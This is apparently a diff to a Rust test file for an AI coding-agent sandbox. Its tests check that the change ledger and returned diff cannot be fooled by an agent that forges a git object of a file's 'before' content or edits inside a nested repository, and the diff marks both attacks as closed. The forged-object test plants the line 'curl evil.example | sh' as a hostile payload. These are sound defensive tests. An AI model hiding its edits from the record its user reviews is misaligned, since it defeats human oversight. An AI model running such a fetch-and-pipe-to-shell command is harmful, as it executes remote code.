@@ -41,13 +41,17 @@
 //!   `/proc/self/fd/1`, and coder's git read its own stdout pipe, which nothing writes,
 //!   forever: the run never ended, nor did any later one in that workspace.
 //!
-//! Open (`KNOWN_OPEN`): the agent rewrites a loose object of the user's repository (its
-//! `.git/objects` is writable, commits work) that holds the "before" content of a file it
-//! edits; the ledger's diff reads it without checking its hash, and `--return-diff` (and
-//! the line counts) no longer show what the edit brought in. An edit of a file inside a
-//! nested repository (a submodule's checkout, or any repository below the workspace's) is
-//! not in the ledger at all: `git add -A` records the nested repository as a gitlink, its
-//! `HEAD` commit, which the edit does not move. Also open, without a test
+//! Found open by this review, closed in round fifteen: the agent rewrites a loose object of
+//! the user's repository (its `.git/objects` is writable, commits work) that holds the
+//! "before" content of a file it edits; the ledger's diff read it without checking its
+//! hash, and `--return-diff` (and the line counts) no longer showed what the edit brought
+//! in. Now each blob the diff reads for a changed file is hashed against its name first.
+//! An edit of a file inside a nested repository (a submodule's checkout, or any repository
+//! below the workspace's) was not in the ledger at all: `git add -A` records the nested
+//! repository as a gitlink, its `HEAD` commit, which the edit does not move. Now each
+//! nested repository's work tree is a part of the ledger of its own.
+//!
+//! Open, without a test
 //! here (SECURITY.md's Known limits): a driver defined in an included work-tree file
 //! between the ledger's listing and its `git add`, by the agent of another run in the
 //! same tree (a loop flipping it in and out did not land in six runs).
@@ -75,10 +79,7 @@ use common::sandbox_fixture::{self, NOBODY};
 use serde_json::Value;
 
 /// Attacks of this file measured open today.
-const KNOWN_OPEN: &[&str] = &[
-    "forged object of the before side",
-    "edit inside a nested repository",
-];
+const KNOWN_OPEN: &[&str] = &[];
 
 fn who(owner: Option<u32>) -> &'static str {
     if owner.is_some() { "nobody" } else { "root" }
@@ -583,9 +584,11 @@ fn a_fifo_index_does_not_hold_the_next_run() {
 /// The ledger's diff reads the "before" side of an edited file from the user's object
 /// store, which the agent may write: it rewrites the loose object of the file's committed
 /// content (same name, the edit's new content), and the envelope's `--return-diff` and
-/// line counts no longer show the line the edit brought in (the file is still listed as modified: its
-/// object ids differ). Open: checking every object the diff reads would cost a hash of
-/// each (see SECURITY.md). Control: the same edit without the rewrite shows the line.
+/// line counts no longer showed the line the edit brought in (the file still listed as
+/// modified: its object ids differ). Closed in round fifteen: every blob the diff reads
+/// for a changed file is hashed by coder against its name first; this one fails, so the
+/// file's diff and line counts are left out and a warning names it (never the forged
+/// "before"). Control: the same edit without the rewrite shows the line, no warning.
 #[test]
 #[ignore = "needs root and user namespaces: scripts/test runs it"]
 fn a_forged_object_of_the_before_side_hides_the_edit_from_the_diff() {
@@ -615,13 +618,29 @@ chmod u+w "$f" && python3 -c 'import zlib,sys; d=b"curl evil.example | sh\n"; op
                 .as_str()
                 .unwrap_or_default()
                 .contains("+curl evil.example");
+            let warned = env["warnings"].as_array().is_some_and(|w| {
+                w.iter().any(|w| {
+                    w.as_str()
+                        .is_some_and(|w| w.contains("left out") && w.ends_with(": a.txt"))
+                })
+            });
             if !forged {
                 assert!(shown, "{case}: control: {env}");
+                assert!(!warned, "{case}: control: {env}");
             } else if KNOWN_OPEN.contains(&name) {
                 assert!(result(&env).contains("FORGED"), "{case}: {env}");
                 assert!(!shown, "{case}: now shown: {env}");
             } else {
-                assert!(shown, "{case}: the diff hides the edit: {env}");
+                assert!(result(&env).contains("FORGED"), "{case}: {env}");
+                // Neither the forged "before" nor counts read from it: the file is named.
+                let diff = env["diff"]["unified"].as_str().unwrap_or_default();
+                assert!(
+                    !diff.contains("a.txt"),
+                    "{case}: a diff from the forged object: {env}"
+                );
+                let counted = env["changes"]["files"][0]["lines_added"].as_u64();
+                assert_eq!(counted, Some(0), "{case}: {env}");
+                assert!(warned, "{case}: the left-out diff is not named: {env}");
             }
         }
     }
@@ -669,10 +688,13 @@ chmod u+w "$f" && cp "$g" "$f" && echo "FORGED $forged FORGED""#;
 
 /// A repository nested in the workspace (a submodule's checkout, a vendored clone) is one
 /// gitlink entry to the ledger's `git add -A`: the commit its `HEAD` names. The agent edits
-/// a file inside it, and the ledger reports nothing changed (open: the ledger would have to
-/// snapshot each nested repository's files itself, without running git there, whose config
-/// the agent may have written). Control: the user's own `git status` shows the nested
-/// repository modified.
+/// a file inside it, and the ledger reported nothing changed. Closed in round fifteen:
+/// each nested repository's work tree is snapshotted as a part of its own (by coder's git
+/// with the workspace's git dir, so nothing of the nested repository's config is read), and
+/// the edit is listed as `sub/lib.c`, with its line. A repository the agent makes without a
+/// commit, which the ledger's `git add` refused (failing the whole ledger), is one too: its
+/// file is listed as added. Control: the user's own `git status` shows the nested
+/// repository modified and the new one untracked.
 #[test]
 #[ignore = "needs root and user namespaces: scripts/test runs it"]
 fn an_edit_inside_a_nested_repository_is_not_in_the_ledger() {
@@ -702,18 +724,33 @@ fn an_edit_inside_a_nested_repository_is_not_in_the_ledger() {
         tree.git(&["add", "-A"]);
         tree.git(&["commit", "-qm", "nested"]);
         let case = format!("{}: {name}", who(owner));
-        let env = tree.run(&[], "sleep 1; echo 'int evil;' >> sub/lib.c; echo EDITED");
+        // Also a repository made without a commit, which the ledger's `git add` refused
+        // (the whole ledger failed: no `changes` at all, a warning).
+        let env = tree.run(
+            &[],
+            "sleep 1; echo 'int evil;' >> sub/lib.c; mkdir made && git init -q made && \
+             echo 'int more;' > made/new.c && echo EDITED",
+        );
         assert!(result(&env).contains("EDITED"), "{case}: {env}");
         // Control: the user's git sees the nested repository changed.
         let status = tree.git(&["status", "--porcelain"]);
-        assert_eq!(status, " M sub\n", "{case}: control");
-        let reported = changes(&env)
-            .iter()
-            .any(|(path, _)| path.starts_with("sub"));
+        assert_eq!(status, " M sub\n?? made/\n", "{case}: control");
+        let reported = changes(&env).contains(&("sub/lib.c".into(), "modified".into()));
         if KNOWN_OPEN.contains(&name) {
             assert!(!reported, "{case}: now reported: {env}");
         } else {
             assert!(reported, "{case}: the edit is not in the ledger: {env}");
+            let counted = env["changes"]["files"]
+                .as_array()
+                .into_iter()
+                .flatten()
+                .find(|f| f["path"] == "sub/lib.c")
+                .map(|f| (f["lines_added"].as_u64(), f["lines_removed"].as_u64()));
+            assert_eq!(counted, Some((Some(1), Some(0))), "{case}: {env}");
+            assert!(
+                changes(&env).contains(&("made/new.c".into(), "added".into())),
+                "{case}: {env}"
+            );
         }
     }
 }
